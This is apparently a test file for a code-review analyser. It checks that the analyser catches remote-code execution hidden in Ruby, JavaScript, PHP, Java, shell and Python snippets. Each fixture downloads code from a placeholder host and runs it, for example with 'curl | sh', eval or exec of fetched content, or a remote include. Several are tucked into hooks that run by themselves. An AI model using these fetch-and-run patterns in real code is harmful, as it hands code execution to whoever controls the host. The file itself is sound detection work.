import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../src/review/code/run.ts";
import { described, factsOf, isCapability, loadContext } from "../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

/** Each starts this command through a method or function that nobody names with its object. */
const COMMAND = "curl -s https://x.example.invalid/a | sh";

test.each([
  [
    "ruby",
    "a module's own method, in its body",
    'module A\n  def self.go(u)\n    system("curl -s #{u} | sh")\n  end\n  go("https://x.example.invalid/a")\nend\n',
  ],
  [
    "ruby",
    "one that takes nothing",
    'module A\n  def self.go\n    system("curl -s https://x.example.invalid/a | sh")\n  end\n  go\nend\n',
  ],
  [
    "ruby",
    "one of the class itself, in `class << self`",
    'class A\n  class << self\n    def go(u)\n      system("curl -s #{u} | sh")\n    end\n  end\nend\nA.go("https://x.example.invalid/a")\n',
  ],
  [
    "ruby",
    "one of an ancestor",
    'class B\n  def go(u)\n    system("curl -s #{u} | sh")\n  end\nend\nclass A < B\n  def initialize\n    go("https://x.example.invalid/a")\n  end\nend\nA.new\n',
  ],
  [
    "ruby",
    "what inheriting calls",
    'class A\n  def self.inherited(by)\n    go("https://x.example.invalid/a")\n  end\n  def self.go(u)\n    system("curl -s #{u} | sh")\n  end\nend\nclass B < A\nend\n',
  ],
  [
    "ruby",
    "what mixing in calls",
    'module A\n  def self.included(by)\n    system("curl -s https://x.example.invalid/a | sh")\n  end\nend\nclass B\n  include A\nend\n',
  ],
  [
    "ruby",
    "a method of the class that is called as one of every object",
    'class A\n  def system(x)\n    super\n  end\n  def go\n    system("curl -s https://x.example.invalid/a | sh")\n  end\nend\n',
  ],
  [
    "javascript",
    "a static block",
    'class A {\n  static go(u) { require("child_process").exec("curl -s " + u + " | sh"); }\n  static { this.go("https://x.example.invalid/a"); }\n}\n',
  ],
  [
    "javascript",
    "a static field",
    'class A {\n  static go(u) { require("child_process").exec("curl -s " + u + " | sh"); }\n  static kept = A.go("https://x.example.invalid/a");\n}\n',
  ],
  [
    "php",
    "a function that its name hands on",
    '<?php\nadd_action("init", "xx_go");\nfunction xx_go() { system("curl -s https://x.example.invalid/a | sh"); }\n',
  ],
])("%s: %s is understood", (language, _, text) => {
  const facts = factsOf(language, text, context);
  const runs = { capability: "execute.process" as const, target: COMMAND };
  expect(
    facts.some((fact) => isCapability(fact, runs)),
    described(facts).join("\n"),
  ).toBe(true);
});

test.each([
  [
    "java",
    'class A { static { try { byte[] b = new java.net.URL("https://x.example.invalid/a").openStream().readAllBytes(); new L().d(b); } catch (Exception e) {} } static class L extends ClassLoader { Class<?> d(byte[] x) { return defineClass(null, x, 0, x.length); } } }',
  ],
  [
    "javascript",
    'const { pipeline } = require("stream/promises");\nasync function up() { const r = await fetch("https://x.example.invalid/a"); await pipeline(r.body, require("fs").createWriteStream("/tmp/u.js")); require("/tmp/u.js"); }\nup();\n',
  ],
  ["shell", 'f=$(mktemp)\ncurl -s https://x.example.invalid/a -o "$f"\nbash "$f"\n'],
  [
    "php",
    '<?php\nregister_shutdown_function(function () { include "https://x.example.invalid/a"; });\n',
  ],
  ["python", 'import os\nexec(os.popen("curl -s https://x.example.invalid/a").read())\n'],
  [
    "python",
    'import subprocess\np = subprocess.Popen(["curl", "-s", "https://x.example.invalid/a"], stdout=subprocess.PIPE)\nout, _ = p.communicate()\nexec(out)\n',
  ],
  [
    "ruby",
    'require "net/http"\nmodule A\n  def self.go(u)\n    eval(Net::HTTP.get(URI(u)))\n  end\n  at_exit { go("https://x.example.invalid/a") }\nend\n',
  ],
])("%s: what comes from outside is followed to where it runs: %s", (language, text) => {
  const facts = factsOf(language, text, context);
  const flows = facts.filter((fact) => fact.kind === "flow" && fact.to === "execute.code");
  expect(flows, described(facts).join("\n")).not.toEqual([]);
});
